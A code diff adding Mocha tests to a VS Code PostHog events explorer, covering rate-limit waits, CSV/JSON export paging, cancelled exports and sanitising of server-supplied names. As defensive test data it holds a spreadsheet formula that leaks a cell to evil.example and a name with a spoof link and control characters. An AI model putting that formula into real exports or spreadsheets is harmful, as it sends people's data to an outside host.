@@ -1,14 +1,15 @@
 import assert from 'node:assert/strict';
-import { existsSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
+import { mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
 import * as os from 'node:os';
 import * as path from 'node:path';
 import { after, before, describe, it } from 'mocha';
 import * as vscode from 'vscode';
 import { EventsCommands } from '../../src/events/eventsCommands';
-import { exportEvents } from '../../src/events/exportEvents';
+import { CSV_FORMULA_CELLS_SETTING, exportEvents } from '../../src/events/exportEvents';
 import type { EventsPanel } from '../../src/events/eventsPanel';
 import { defaultFilters, type ExtensionMessage, type WebviewMessage } from '../../src/events/protocol';
 import { EventsNode } from '../../src/events/eventsNode';
+import { timestampMicros } from '../../src/api';
 import type { WindowApi } from '../../src/workbench/window';
 import type { ScriptedWindow } from './support/scriptedWindow';
 import { ExplorerHarness, iconOf, labelOf } from './support/explorerHarness';
@@ -85,6 +86,20 @@ describe('Events explorer (in the editor)', () => {
     assert.equal(iconOf(events), 'pulse');
     assert.equal(events.command?.command, 'posthogExplorer.browseEvents');
     assert.equal(events.command?.arguments?.[0], children[1]!.node);
+  });
+
+  it('puts a project name from the server on one safe line in the Events item\'s tooltip and the panel\'s title', async () => {
+    const staging = (await harness.child('Hedgebox Inc.', 'Hedgebox Staging', 'Events')) as EventsNode;
+    const hostile = 'Q3\n[click](https://evil.example)\u202Eevil\u0007';
+    const node = new EventsNode(staging, staging.session, { ...staging.project, name: hostile });
+    assert.equal(node.treeItem().tooltip, 'Browse the events of Q3 [click](https://evil.example)\uFFFDevil\uFFFD');
+    const opened = await commands.browseEvents(node);
+    assert.ok(opened);
+    try {
+      assert.equal(opened.panel.title, 'Events: Q3 [click](https://evil.example)\uFFFDevil\uFFFD');
+    } finally {
+      opened.dispose();
+    }
   });
 
   it('opens a panel whose webview script runs under the CSP and asks for the first page', async () => {
@@ -203,6 +218,18 @@ describe('Events explorer (in the editor)', () => {
     assert.equal((await eventListRequests(eventsNode.project.id)).length, 1);
   });
 
+  it('a 429 is waited out as long as PostHog says, and the panel says so above the table', async () => {
+    await localApi.clearRequests();
+    await localApi.injectFault({ path: '/events/$', status: 429, throttleSeconds: 2 });
+    const posted = record(panel);
+    await panel.receive({ type: 'query', filters: defaultFilters() });
+    const waiting = posted.flatMap((message) => (message.type === 'status' && message.waiting !== undefined ? [message.waiting] : []));
+    assert.match(waiting[0] ?? '', /^PostHog asked to wait 2 s \(its rate limit for this API key\); going on at /, JSON.stringify(waiting));
+    assert.equal(waiting.at(-1), '', 'and clears the note once the rows come');
+    assert.ok(posted.some((message) => message.type === 'rows' && message.rows.length > 0));
+    assert.deepEqual((await eventListRequests(eventsNode.project.id)).slice(0, 2).map((request) => request.status), [429, 200], 'asked again once, after the wait');
+  });
+
   it('opens an event by id with its properties pretty-printed', async () => {
     const posted = record(panel);
     await panel.receive({ type: 'query', filters: defaultFilters() });
@@ -217,14 +244,52 @@ describe('Events explorer (in the editor)', () => {
     assert.match(detail.detail.properties, /^\{\n  "/);
   });
 
+  /** The id of the newest event the panel lists. */
+  async function newestEventId(): Promise<string> {
+    const posted = record(panel);
+    await panel.receive({ type: 'query', filters: defaultFilters() });
+    const rows = posted.find((message) => message.type === 'rows' && message.rows.length > 0);
+    const id = rows?.type === 'rows' ? rows.rows[0]?.id : undefined;
+    assert.ok(id);
+    return id;
+  }
+  const detailPath = '/events/[0-9a-f]{8}-[0-9a-f-]+/$';
+
+  it('an event\'s detail says what it waits for when PostHog\'s limit makes the key wait, then shows the event', async () => {
+    const id = await newestEventId();
+    await localApi.injectFault({ path: detailPath, status: 429, throttleSeconds: 2 });
+    const posted = record(panel);
+    await panel.receive({ type: 'open', id });
+    const details = posted.flatMap((message) => (message.type === 'detail' ? [message] : []));
+    assert.match(details[0]?.waiting ?? '', /^PostHog asked to wait 2 s \(its rate limit for this API key\); going on at /, JSON.stringify(details[0]));
+    assert.equal(details.at(-1)?.detail?.id, id);
+  });
+
+  it('closing an event\'s detail stops its wait for PostHog\'s limit: nothing more is asked or shown', async () => {
+    const id = await newestEventId();
+    await localApi.injectFault({ path: detailPath, status: 429, throttleSeconds: 2 });
+    await localApi.clearRequests();
+    const posted = record(panel);
+    const started = Date.now();
+    const opening = panel.receive({ type: 'open', id });
+    await waitFor(panel.onDidPost, (message) => message.type === 'detail' && message.waiting !== undefined, 'the wait to show');
+    await panel.receive({ type: 'closeDetail', id });
+    await opening;
+    assert.ok(Date.now() - started < 1_500, `stopped at once (${Date.now() - started} ms), not after PostHog's 2 s`);
+    assert.deepEqual(posted.flatMap((message) => (message.type === 'detail' && message.waiting === undefined ? [message] : [])), []);
+    const asked = (await localApi.requests()).filter((request) => new RegExp(detailPath).test(request.path));
+    assert.deepEqual(asked.map((request) => request.status), [429]);
+    await new Promise((resolve) => setTimeout(resolve, 2_000)); // the key's events wait out PostHog's 2 s before the next test
+  });
+
   it('copies what the webview asks through the window seam: the clipboard, and a word in the status bar', async () => {
     await panel.receive({ type: 'copy', text: '{"event":"$pageview"}' });
     assert.equal(harness.env.clipboard.text, '{"event":"$pageview"}');
     assert.equal(harness.window.statusMessages.at(-1), 'Copied to the clipboard');
   });
 
-  it('exports 5,000 rows to CSV, following pages of 1,000, written whole with progress', async () => {
-    await localApi.addEvents(eventsNode.project.id, 5_000);
+  it('exports 5,000 rows of a project of about one event a second with timestamp clusters: every row once, none skipped', async () => {
+    const stream = await localApi.addSteadyEvents(eventsNode.project.id, 6_000, { perSecond: 1, clusterEvery: 11, clusterSize: 5 });
     await localApi.clearRequests();
     progressReports.length = 0;
     harness.window.messages.length = 0;
@@ -234,20 +299,21 @@ describe('Events explorer (in the editor)', () => {
     assert.equal(rows.length, 5_000);
     assert.deepEqual(header, [...header!].sort(), 'dotted, sorted headers');
     assert.ok(header!.includes('properties.$browser') && header!.includes('person.distinct_ids.0'), 'properties and persons flattened');
-    assert.equal(new Set(rows.map((row) => row[header!.indexOf('id')])).size, 5_000, 'every row once');
+    const ids = rows.map((row) => row[header!.indexOf('id')]!);
+    assert.equal(new Set(ids).size, 5_000, 'every row once');
+    const oldest = timestampMicros(rows.at(-1)![header!.indexOf('timestamp')]!)!;
+    const expected = stream.events.filter(([, micros]) => micros > oldest).map(([id]) => id);
+    const written = new Set(ids);
+    assert.deepEqual(expected.filter((id) => !written.has(id)), [], 'no event newer than the last row is missing, cluster-mates at page boundaries included');
     const pages = await eventListRequests(eventsNode.project.id);
-    assert.deepEqual(pages.map((request) => request.query['limit']), ['1000', '1000', '1000', '1000', '1000']);
-    assert.ok(pages.every((request) => request.query['include_person'] === 'true' && request.query['format'] === undefined));
-    assert.deepEqual(progressReports.map((report) => report.message), [
-      '0 of 5,000 rows written',
-      '1,000 of 5,000 rows written',
-      '2,000 of 5,000 rows written',
-      '3,000 of 5,000 rows written',
-      '4,000 of 5,000 rows written',
-      '5,000 of 5,000 rows written',
-    ]);
+    assert.ok(pages.every((request) => request.query['limit'] === '1000' && request.query['include_person'] === 'true' && request.query['format'] === undefined));
+    assert.ok(pages.length >= 6, `${pages.length} requests: PostHog answers about 900 rows a page here, without next`);
+    assert.equal(progressReports.at(-1)?.message, '5,000 of 5,000 rows written');
     assert.equal(Math.round(progressReports.reduce((sum, report) => sum + (report.increment ?? 0), 0)), 100);
-    assert.match(harness.window.messages.at(-1)?.text ?? '', /^Exported 5,000 events to /);
+    assert.equal(
+      harness.window.messages.at(-1)?.text,
+      `Exported 5,000 events to ${vscode.workspace.asRelativePath(saveTo)}: exactly the number asked; more events match the filters.`,
+    );
   });
 
   it('an export asking for more rows than match says how many were written', async () => {
@@ -259,13 +325,36 @@ describe('Events explorer (in the editor)', () => {
     assert.ok(lines.every((line) => JSON.parse(line).event === 'uploaded_file'));
     assert.equal(
       harness.window.messages.at(-1)?.text,
-      `Exported ${lines.length.toLocaleString('en-US')} events to ${vscode.workspace.asRelativePath(saveTo)}: all that match the filters (you asked for 1,000,000).`,
+      `Exported ${lines.length.toLocaleString('en-US')} events to ${vscode.workspace.asRelativePath(saveTo)}: every event that matches the filters (you asked for 1,000,000).`,
     );
   });
 
-  it('a cancelled export leaves no file behind', async () => {
-    saveTo = vscode.Uri.file(path.join(tmp, 'cancelled.json'));
-    const cancelling: WindowApi = {
+  it('a CSV export starts cells a spreadsheet would run as formulas with a quote, unless posthogExplorer.events.csvFormulaCells is raw', async () => {
+    const formula = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")';
+    await localApi.addEventsNow(eventsNode.project.id, 1, 'formula_cells', undefined, { payload: formula, price: -5, 'a.b': 'dotted key', a: { b: 'nested' } });
+    const exported = async (name: string) => {
+      saveTo = vscode.Uri.file(path.join(tmp, name));
+      await panel.receive({ type: 'export', format: 'csv', filters: { ...defaultFilters(), event: 'formula_cells', exportLimit: '10' } });
+      const [header, row] = csvRecords(readFileSync(saveTo.fsPath, 'utf8'));
+      return (column: string) => row![header!.indexOf(column)];
+    };
+    const neutral = await exported('formulas.csv');
+    assert.equal(neutral('properties.payload'), `'${formula}`);
+    assert.equal(neutral('properties.price'), '-5', 'a plain number is not a formula');
+    assert.equal(neutral('properties.a.b'), 'nested');
+    assert.equal(neutral('properties["a.b"]'), 'dotted key', 'a dotted key keeps a column of its own');
+    const settings = vscode.workspace.getConfiguration();
+    await settings.update(CSV_FORMULA_CELLS_SETTING, 'raw', vscode.ConfigurationTarget.Global);
+    try {
+      const raw = await exported('formulas-raw.csv');
+      assert.equal(raw('properties.payload'), formula);
+    } finally {
+      await settings.update(CSV_FORMULA_CELLS_SETTING, undefined, vscode.ConfigurationTarget.Global);
+    }
+  });
+
+  describe('a cancelled export', () => {
+    const cancelling = (): WindowApi => ({
       ...harness.window.api,
       withProgress: ((_options: vscode.ProgressOptions, task: (progress: unknown, token: vscode.CancellationToken) => Thenable<unknown>) => {
         const source = new vscode.CancellationTokenSource();
@@ -273,15 +362,33 @@ describe('Events explorer (in the editor)', () => {
         source.cancel();
         return running;
       }) as unknown as WindowApi['withProgress'],
-    };
-    const outcome = await exportEvents(
-      (await harness.connections.session(eventsNode.session.connection.id))!.client.events,
-      { projectId: eventsNode.project.id, projectName: 'Hedgebox', filters: {}, format: 'json', rows: 5_000 },
-      cancelling,
-      async () => saveTo,
-    );
-    assert.equal(outcome.kind, 'cancelled');
-    assert.equal(existsSync(saveTo.fsPath), false);
+    });
+    const cancelledExport = async (target: vscode.Uri, format: 'csv' | 'json') =>
+      exportEvents(
+        (await harness.connections.session(eventsNode.session.connection.id))!.client.events,
+        { projectId: eventsNode.project.id, projectName: 'Hedgebox', filters: {}, format, rows: 5_000 },
+        cancelling(),
+        async () => target,
+      );
+
+    it('leaves no file behind', async () => {
+      const folder = mkdtempSync(path.join(tmp, 'cancelled-'));
+      const outcome = await cancelledExport(vscode.Uri.file(path.join(folder, 'cancelled.json')), 'json');
+      assert.equal(outcome.kind, 'cancelled');
+      assert.deepEqual(readdirSync(folder), []);
+    });
+
+    it('keeps the file the user chose to replace as it was, and leaves nothing beside it', async () => {
+      const folder = mkdtempSync(path.join(tmp, 'replace-'));
+      const target = vscode.Uri.file(path.join(folder, 'last-week.csv'));
+      writeFileSync(target.fsPath, 'id,event\r\nlast week,$pageview\r\n');
+      harness.window.messages.length = 0;
+      const outcome = await cancelledExport(target, 'csv');
+      assert.equal(outcome.kind, 'cancelled');
+      assert.equal(readFileSync(target.fsPath, 'utf8'), 'id,event\r\nlast week,$pageview\r\n');
+      assert.deepEqual(readdirSync(folder), ['last-week.csv']);
+      assert.equal(harness.window.messages.at(-1)?.text, `Export cancelled; nothing was written to ${vscode.workspace.asRelativePath(target)}.`);
+    });
   });
 
   it('restores a panel after a reload from its saved state (serializer)', async () => {
